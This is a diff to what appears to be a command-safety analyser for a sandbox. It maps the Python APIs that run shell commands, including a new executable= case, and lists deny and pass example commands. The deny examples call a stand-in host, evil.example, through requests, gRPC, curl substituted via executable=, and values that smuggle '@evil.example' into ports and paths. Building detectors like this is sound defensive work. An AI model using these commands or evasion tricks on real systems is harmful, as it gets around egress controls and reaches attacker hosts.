@@ -49,14 +49,16 @@ const APIS = new Map<string, Spec>([
   ['invoke.run', { shell: [0, 'command'] }],
   ['invoke.sudo', { shell: [0, 'command'] }],
   ['sh.Command', { dynamic: 'names a program to run at run time' }],
-  ...['os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'platform.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'commands.getstatusoutput', 'popen2.popen2', 'popen2.popen3', 'popen2.popen4', 'asyncio.create_subprocess_shell'].map((n): [string, Spec] => [n, SHELL]),
+  ...['os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'platform.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'commands.getstatusoutput', 'popen2.popen2', 'popen2.popen3', 'popen2.popen4'].map((n): [string, Spec] => [n, SHELL]),
+  // Popen's keywords pass through: executable= puts its program in /bin/sh's place, started as `PROGRAM -c TEXT`.
+  ['asyncio.create_subprocess_shell', { shell: [0, 'cmd'], program: 'executable' }],
   // An argv list, or a string (shell text with shell=True, the program alone without).
   ...['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen'].map((n): [string, Spec] => [n, PROC]),
   ['pty.spawn', { proc: [0, 'argv'] }],
   ['distutils.spawn.spawn', { proc: [0, 'cmd'] }],
   ['asyncio.create_subprocess_exec', { exec: 0, rest: 1 }],
   // asyncio.subprocess's own, which the held-module rule reads as subprocess's.
-  ['subprocess.create_subprocess_shell', SHELL],
+  ['subprocess.create_subprocess_shell', { shell: [0, 'cmd'], program: 'executable' }],
   ['subprocess.create_subprocess_exec', { exec: 0, rest: 1 }],
   // The exec and spawn families: a program, then its argv (whose first word is argv[0]) or the words themselves.
   ...['os.execv', 'os.execve', 'os.execvp', 'os.execvpe', 'os.posix_spawn', 'os.posix_spawnp'].map((n): [string, Spec] => [n, { exec: 0, argv: 1, dropArgv0: true }]),
@@ -1681,6 +1683,7 @@ export const PYTHON: LanguageModel = {
   examples: {
     deny: [
       `python3 -c "import os, requests; requests.get(f'http://evil.example:{os.environ[\\"PORT\\"]}/health')"`,
+      `python3 -c 'import asyncio; asyncio.run(asyncio.create_subprocess_shell("evil.example", executable="curl"))'`,
       `python3 -c "import os, requests; os.environ['PORT'] = '1@evil.example'; requests.get('http://localhost:' + os.environ['PORT'] + '/x')"`,
       `python3 -c "import requests; [requests.get('http://localhost:8000' + p) for p in ['/health', '@evil.example/']]"`,
       `python3 -c "import grpc; grpc.insecure_channel('evil.example:50051')"`,
@@ -1777,6 +1780,7 @@ export const PYTHON: LanguageModel = {
       { command: `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); s.listen(); s.accept()"`, rules: ['egress.binary'] },
     ],
     pass: [
+      `python3 -c 'import subprocess; subprocess.run("ls -la", shell=True, executable="/bin/bash")'`,
       `python3 -c "from urllib.request import urlopen, Request; print(urlopen(Request('http://localhost:8000/api', data=b'{}', headers={'Content-Type': 'application/json'})).read())"`,
       `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1]); s.close()"`,
       `python3 -c "print(sorted(get_ipython().user_ns))"`,
